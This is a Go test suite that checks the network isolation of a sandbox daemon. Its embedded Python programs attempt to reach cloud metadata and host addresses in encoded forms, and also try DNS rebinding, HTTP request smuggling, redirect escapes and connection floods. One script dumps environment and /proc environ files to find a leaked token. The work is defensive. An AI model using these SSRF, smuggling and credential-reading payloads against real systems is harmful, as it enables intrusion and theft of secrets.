package attack

import (
	"crypto/rand"
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sandkasten/sandkasten/test/netfixture"
)

// allModes lets clients ask for all modes.
const allModes = "maximum: {network_mode: full}\nnetwork: {allow_private: true}\n"

// W02: no metadata service is reached in any mode, by its address, in another form of
// it, or by a name that leads there.
func TestW02_MetadataInEveryMode(t *testing.T) {
	t.Parallel()
	s := stageLab(t, allModes)
	for i, address := range netfixture.Metadata {
		kind := "A"
		if strings.Contains(address, ":") {
			kind = "AAAA"
		}
		s.lab.Name(fmt.Sprintf("m%d.test", i), "0 "+kind+" "+address)
	}
	s.lab.Name("metadata.google.internal", "60 A 169.254.169.254")
	forms := append([]string{"::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "metadata.google.internal", "m0.test", "m5.test"}, netfixture.Metadata...)
	program := "for host in " + quoted(forms) + `:
    for port in (80, 443, 7):
        if page(host, host, port): got("%s %d" % (host, port))
for name in ("metadata.google.internal", "m0.test", "m2.test", "m5.test"):
    if resolve(name): got("%s is %s" % (name, resolve(name)))`
	for _, policy := range []map[string]any{mode("internet"), mode("full"), list("good.test", "metadata.google.internal", "m0.test", "m5.test")} {
		b := s.outside(t, policy)
		s.works(t, b)
		s.nothing(t, fmt.Sprint(policy["mode"]), b, program)
	}
	for _, address := range netfixture.Metadata {
		s.a.do(t, "POST", "/v1/sessions", map[string]any{"network": list(strings.NewReplacer("fd", "[fd", "::254", "::254]").Replace(address))}).refused(t, "allow "+address, 400)
	}
}

// W03: in network mode allow nothing but what the list names is reached: by no
// protocol, no other name server and no route.
func TestW03_NothingBesideTheList(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	b := s.outside(t, list("good.test"))
	s.works(t, b)
	s.nothing(t, "directly", b, `
for host in ("198.51.100.66", "203.0.113.5", "2001:db8:1::66", "198.51.100.1"):
    for port in (7, 22, 5432, 8443):
        if ask(host, port, b"\x00hello"): got("%s %d" % (host, port))
for host in ("198.51.100.66", "evil.test"):
    if page(host, "evil.test"): 
        if b"site" in page(host, "evil.test"): got("evil.test at " + host)
    if b"site" in page(host, "evil.test", 443, True): got("evil.test by TLS at " + host)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
for port in (7, 443, 5353):
    try:
        s.sendto(b"hello", ("198.51.100.9", port)); s.recv(9); got("datagrams to %d" % port)
    except OSError: pass
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x01\x00\x01"
for server in ("172.31.255.1", "198.51.100.9", "192.0.2.53"):
    try:
        s.sendto(query, (server, 53)); out = s.recv(512)
        if out[6:8] != b"\x00\x00": got("a name by " + server)
    except OSError: pass
for family, proto in ((socket.AF_INET, 1), (socket.AF_INET, 255), (17, 768)):
    try: socket.socket(family, socket.SOCK_RAW, proto); got("a raw socket of %d" % family)
    except OSError: pass
if os.system("ip route add default dev lo 2>/dev/null; ip addr add 198.51.100.200/24 dev lo 2>/dev/null") == 0: got("a route")`)
}

// ownForms are the ways to write addresses of the daemon's host.
var ownForms = []string{
	netfixture.Own4, netfixture.Inner4, "2001:db8:ffff::2", "::ffff:" + netfixture.Own4, "64:ff9b::cb00:71c8", "2002:cb00:71c8::1", "own.test", "alias.test", "inner.test",
}

// hostAttack tries to reach the daemon's host.
func (s *labScene) hostAttack(t *testing.T) string {
	t.Helper()
	s.lab.Name("own.test", "0 A "+netfixture.Own4, "0 AAAA 2001:db8:ffff::2")
	s.lab.Name("inner.test", "0 A "+netfixture.Inner4)
	s.lab.Name("alias.test", "0 CNAME own.test.")
	s.lab.Name("loop.test", "0 A 127.0.0.1", "0 AAAA ::1")
	_, api, _ := strings.Cut(strings.TrimPrefix(s.d.URL, "http://"), ":")
	return fmt.Sprintf(`
for host in %s + ["127.0.0.1", "::1", "0.0.0.0", "127.1", "2130706433", "0x7f.1", "0177.1", "localhost", "localhost.", "loop.test"]:
    for port in (%d, %s):
        if b"HTTP/1" in page(host, "x", port): got("a page of %%s %%d" %% (host, port))
`, quoted(ownForms), s.hostPort, api)
}

// W04: no address of the daemon's host is reached in any mode, in whatever form, nor a
// private network unless the operator opens it.
func TestW04_HostAndPrivateNetworks(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	attack := s.hostAttack(t) + `
for host in ("10.77.0.5", "::ffff:10.77.0.5", "64:ff9b::a4d:5", "172.31.255.1", "private.test"):
    for port in (80, 443, 7, 53):
        if b"site" in page(host, "x", port): got("%s %d" % (host, port))`
	s.lab.Name("private.test", "0 A 10.77.0.5")
	for _, policy := range []map[string]any{mode("internet"), list("good.test", "own.test:1-65535", "alias.test:1-65535", "loop.test:1-65535", "private.test:1-65535", "0.0.0.0/0")} {
		answer := s.a.do(t, "POST", "/v1/sessions", map[string]any{"network": policy})
		if answer.status == 400 { // 0.0.0.0/0 is not taken
			policy = list("good.test", "own.test:1-65535", "alias.test:1-65535", "loop.test:1-65535", "private.test:1-65535", "200.0.0.0/5")
		} else {
			var made struct{ ID string }
			answer.into(t, &made)
			(&target{s.a, made.ID}).end(t)
		}
		b := s.outside(t, policy)
		s.works(t, b)
		s.nothing(t, fmt.Sprint(policy["mode"]), b, attack)
	}
}

// W11: in network mode full the host's services and other sessions are not reached.
func TestW11_FullReachesNoHost(t *testing.T) {
	t.Parallel()
	s := stageLab(t, allModes)
	b, other := s.outside(t, mode("full")), s.outside(t, mode("full"))
	s.works(t, b)
	other.serve(t, 8000, mirror)
	s.nothing(t, "the host", b, s.hostAttack(t))
	s.nothing(t, "another session", b, `
for host in ("127.0.0.1", "0.0.0.0", "::1", "192.0.2.53", "203.0.113.200"):
    if page(host, "x", 8000): got(host)`)
}

// W05: a name that only looks like one of the list is not on it, however it is written.
func TestW05_NamesLikeOnes(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	names := []string{
		"xgood.test", "good.test.evil.test", "a.good.test", "good.tes", "test", "good-test", "goodatest", "a.b.wild.test", "wild.test", "xwild.test",
	}
	for _, name := range append(names, "a.wild.test") {
		s.lab.Name(name, "60 A 198.51.100.66")
	}
	b := s.outside(t, list("good.test", "*.wild.test"))
	s.works(t, b)
	s.nothing(t, "names", b, "for name in "+quoted(names)+` + ["evil.test#good.test", "good.test@evil.test", "evil.test%00good.test", "g\u043e\u043ed.test", "good.test\t", "good.test\r\nHost: evil.test", "x" * 5000, ""]:
    if name and resolve(name): got("the address of %.50r" % name)
for name in ["evil.test", "xgood.test", "good.test@evil.test", "evil.test#good.test", "good.test.evil.test", "good.test:22", "good.test:80:80", "good.test\t", "good.test,evil.test", "[good.test]", "198.51.100.66"]:
    for secure in (False, True):
        try: out = page("good.test", name, 443 if secure else 80, secure)
        except (ValueError, UnicodeError): continue
        if b"site" in out and b"site good.test" not in out: got("%r: %r" % (name, out))
if not resolve("GOOD.TEST.") or not resolve("a.wild.test"): got("nothing by the names of the list")`)
	for _, name := range []string{"evil.test", "a.good.test", "xgood.test", "wild.test"} {
		if s.lab.Asked(name) > 0 {
			t.Errorf("%s was asked for outside", name)
		}
	}
}

// W07: an empty list allows nothing, an entry that would allow everything is refused,
// and a host of the list that forwards elsewhere leads nowhere else.
func TestW07_ListsThatSayAll(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	for _, entry := range []string{"*", "*.com", ".", "", "*.", "**.good.test", "good.*", "(good|evil).test", "good.test:0", "good.test:99999", "https://good.test", "good.test/path", "@all"} {
		s.a.do(t, "POST", "/v1/sessions", map[string]any{"network": list(entry)}).refused(t, entry, 400, 422)
	}
	empty := s.outside(t, list())
	s.nothing(t, "an empty list", empty, `
for host in ("good.test", "evil.test", "198.51.100.1"):
    if b"site" in page(host, host): got(host)`)
	s.lab.Site("good.test", func(w http.ResponseWriter, r *http.Request) {
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusFound)
			return
		}
		fmt.Fprintln(w, "site good.test")
	})
	b := s.outside(t, list("good.test"))
	s.works(t, b)
	s.nothing(t, "a redirection", b, `
for to in ("http://evil.test/", "https://evil.test/", "http://169.254.169.254/", "http://127.0.0.1:1/", "http://198.51.100.66/"):
    try:
        out = urllib.request.urlopen("http://good.test/?to=" + to, context=tls()).read()
        got("%s: %r" % (to, out))
    except OSError: pass`)
}

// W06: names are resolved by us, and an answer that changes or leads inside leads
// nowhere.
func TestW06_Rebinding(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	s.lab.Name("both.test", "0 A 198.51.100.5", "0 A 10.77.0.5")
	s.lab.Name("inside.test", "0 A 10.77.0.5")
	s.lab.Name("local.test", "0 A 127.0.0.1", "0 AAAA ::1")
	s.lab.Name("alias.test", "0 CNAME inside.test.")
	s.lab.Name("mapped.test", "0 AAAA ::ffff:169.254.169.254", "0 AAAA 64:ff9b::a9fe:a9fe")
	s.lab.Name("changes.test", "0 A 198.51.100.5")
	b := s.outside(t, list("good.test", "both.test", "inside.test", "local.test", "alias.test", "mapped.test", "changes.test"))
	s.works(t, b)
	program := `
for name in ("both.test", "inside.test", "local.test", "alias.test", "mapped.test", "changes.test"):
    for address in resolve(name):
        if address != "198.51.100.5": got("%s is %s" % (name, address))
    page(name, name); page(name, name, 443, True)
for address in ("10.77.0.5", "127.0.0.1", "169.254.169.254"):
    if page(address, "changes.test"): got("an address behind a name: " + address)`
	s.nothing(t, "at first", b, program)
	s.lab.Name("changes.test", "0 A 10.77.0.5")
	s.nothing(t, "with another answer", b, program)
}

// W08: a connection to an address of the list reaches no other host there, by its TLS,
// a later request or one that is hidden in another.
func TestW08_OtherHostsOfAnAddress(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	s.lab.Name("evil.test", "60 A 198.51.100.1") // both at one address, as behind a CDN
	b := s.outside(t, list("good.test"))
	s.works(t, b)
	s.nothing(t, "hosts", b, `
def evil(what, out):
    if b"site evil" in out or b"site other" in out: got("%s: %r" % (what, out[:300]))
evil("TLS", page("good.test", "evil.test", 443, True))
evil("Host", page("good.test", "evil.test"))
good = b"GET /1 HTTP/1.1\r\nHost: good.test\r\n"
bad = b"GET /2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
evil("a later request", ask("good.test", 80, good + b"\r\n" + bad))
evil("two hosts", ask("good.test", 80, good + b"Host: evil.test\r\nConnection: close\r\n\r\n"))
evil("an absolute target", ask("good.test", 80, b"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"))
evil("two lengths", ask("good.test", 80, b"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(bad)) + bad))
evil("an odd coding", ask("good.test", 80, b"POST / HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + bad))
evil("a folded line", ask("good.test", 80, b"GET / HTTP/1.1\r\nX: a\r\n Host: evil.test\r\nHost: good.test\r\n\r\n" + bad))
evil("h2c", ask("good.test", 80, good + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + bad))
evil("prior knowledge", ask("good.test", 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bad))
evil("CONNECT", ask("good.test", 80, b"CONNECT evil.test:80 HTTP/1.1\r\nHost: good.test\r\n\r\n" + bad))
evil("HTTP/1.0", ask("good.test", 80, b"GET / HTTP/1.0\r\n\r\n" + bad))`)
}

// W09: connections, names and headers without end cost their own session only.
func TestW09_Floods(t *testing.T) {
	s := stageLab(t, "")
	policy := list("good.test", "198.51.100.9:7")
	policy["max_connections"], policy["connections_per_second"] = 20, 1000
	b := s.outside(t, policy)
	s.works(t, b)
	s.lab.Site("good.test", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/header" {
			w.Header().Set("X-Long", strings.Repeat("x", 1<<20))
		}
		fmt.Fprintln(w, "site good.test")
	})
	before := s.memory(t)
	s.nothing(t, "floods", b, `
import time
held, alive = hold(80)
if alive > 20: got("%d connections at once" % alive)
for s in held: s.close()
time.sleep(0.5)
for n in range(300): resolve("n%d.evil.test" % n)
ask("good.test", 80, b"GET / HTTP/1.1\r\nHost: good.test\r\nX: " + b"x" * (8 << 20))
if len(ask("good.test", 80, b"GET /header HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n")) > 60000: got("a header of 1 MiB")`)
	if grown := s.memory(t) - before; grown > 64<<20 {
		t.Errorf("the daemon has grown by %d MiB", grown>>20)
	}
	other := s.outside(t, list("good.test"))
	s.works(t, other)
}

// W18: the sandboxes of one owner together have no more connections than one owner may,
// and those of others have theirs; what is refused is in the session's log.
func TestW18_ConnectionsOfOneOwner(t *testing.T) {
	t.Parallel()
	const most = 40
	s := stageLab(t, fmt.Sprintf("network: {max_connections_per_owner: %d}", most))
	s.lab.Site("good.test", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "site good.test") })
	policy := list("good.test", "198.51.100.9:7")
	policy["max_connections"], policy["connections_per_second"] = 4096, 1000
	var alive int
	var last *target
	for range 3 {
		last = s.outside(t, policy)
		last.put(t, "/workspace/hold.py", client+`
import sys, time
held, alive = hold(30)
print("alive", alive, flush=True)
time.sleep(300)
`)
		last.sh(t, "python3 /workspace/hold.py >/workspace/held 2>&1 & for i in $(seq 300); do grep -q alive /workspace/held && break; sleep 0.1; done")
		var n int
		if _, err := fmt.Sscanf(last.get(t, "/workspace/held"), "alive %d", &n); err != nil {
			t.Fatalf("%v: %s", err, last.get(t, "/workspace/held"))
		}
		alive += n
	}
	if alive > most || alive < most/2 {
		t.Errorf("one owner has %d connections, want at most %d", alive, most)
	}
	if log := last.do(t, "GET", last.at("/network/log"), nil); !strings.Contains(log.body, "max_connections_per_owner") {
		t.Errorf("the log does not say what refused them: %s", log.body)
	}
	s.works(t, s.outsideOf(t, s.b, list("good.test")))
}

// W12: a policy that is changed holds at once for what is under way.
func TestW12_ChangeHoldsAtOnce(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	var sent atomic.Int64
	s.lab.Site("good.test", func(w http.ResponseWriter, r *http.Request) {
		for r.URL.Path == "/slow" && r.Context().Err() == nil {
			n, err := w.Write(make([]byte, 1024))
			if err != nil {
				return
			}
			sent.Add(int64(n))
			w.(http.Flusher).Flush()
			time.Sleep(5 * time.Millisecond)
		}
		fmt.Fprintln(w, "site good.test")
	})
	b := s.outside(t, list("good.test"))
	s.works(t, b)
	b.put(t, "/workspace/slow.py", client+`urllib.request.urlopen("http://good.test/slow").read()`)
	b.do(t, "POST", b.at("/processes"), map[string]any{"cmd": []string{"python3", "/workspace/slow.py"}, "background": true}).refused(t, "a download", 201)
	for deadline := time.Now().Add(paced(20 * time.Second)); sent.Load() < 10<<10; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the download does not begin")
		}
	}
	b.do(t, "PUT", b.at("/network"), list("evil.test")).refused(t, "another policy", 200)
	for deadline, before := time.Now().Add(paced(5*time.Second)), int64(-1); sent.Load() != before; time.Sleep(300 * time.Millisecond) {
		if before = sent.Load(); time.Now().After(deadline) {
			t.Fatal("behind the change the download goes on")
		}
	}
	s.d.Kill()
	s.d.Start()
	s.nothing(t, "after the daemon's death", b, `
if b"site" in page("good.test", "good.test"): got("what the policy of before allowed")`)
}

// W17: a secret that stays outside goes to its hosts and in its place only, and nothing
// that they answer tells it to the sandbox.
func TestW17_SecretsStayOutside(t *testing.T) {
	t.Parallel()
	s := stageLab(t, "")
	token := "sk-" + rand.Text()
	s.lab.Name("api.test", "60 A 198.51.100.4")
	s.lab.Name("other.test", "60 A 198.51.100.4") // at the same address
	var leaked, came atomic.Int64
	echo := func(w http.ResponseWriter, r *http.Request) {
		sent := fmt.Sprint(r.Header, r.URL)
		switch {
		case !strings.Contains(sent, token):
		case r.TLS != nil && r.Host == "api.test" && r.Header.Get("Authorization") == "Bearer "+token:
			came.Add(1)
		default:
			leaked.Add(1)
		}
		w.Header().Set("X-Seen", r.Header.Get("Authorization"))
		fmt.Fprintln(w, sent)
	}
	s.lab.Site("api.test", echo)
	s.lab.Site("other.test", echo)
	policy := list("good.test", "api.test", "other.test")
	policy["secrets"] = []map[string]any{{"name": "TOKEN", "hosts": []string{"api.test"}, "header": "Authorization", "value": "Bearer " + token}}
	b := s.outside(t, policy)
	s.works(t, b)
	b.put(t, "/workspace/leak.py", client+`
p = os.environ["TOKEN"].encode()
def req(host, line, more=b""): return b"GET " + line + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + more + b"Connection: close\r\n\r\n"
auth = b"Authorization: Bearer " + p + b"\r\n"
for out in (
    ask("api.test", 443, req(b"api.test", b"/", auth), "api.test"),
    ask("api.test", 443, req(b"api.test", b"/?k=" + p, b"X-Other: " + p + b"\r\n"), "api.test"),
    ask("api.test", 443, b"TRACE / HTTP/1.1\r\nHost: api.test\r\n" + auth + b"Connection: close\r\n\r\n", "api.test"),
    ask("api.test", 443, req(b"other.test", b"/", auth), "api.test"),
    ask("other.test", 443, req(b"other.test", b"/", auth), "other.test"),
    ask("other.test", 443, req(b"api.test", b"/", auth), "other.test"),
    ask("api.test", 80, req(b"api.test", b"/", auth)),
): print(out)
os.system("env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /dev/shm/sandkasten/* 2>/dev/null")`)
	out := b.sh(t, "python3 /workspace/leak.py")
	if came.Load() == 0 {
		t.Fatalf("the host does not get the secret: %s", out)
	}
	if strings.Contains(out, token) {
		t.Errorf("the sandbox sees the value: %s", out)
	}
	if n := leaked.Load(); n > 0 {
		t.Errorf("%d requests have the value elsewhere", n)
	}
	for _, path := range []string{"", "/network", "/network/log"} {
		b.do(t, "GET", b.at(path), nil).hides(t, path, token)
	}
}
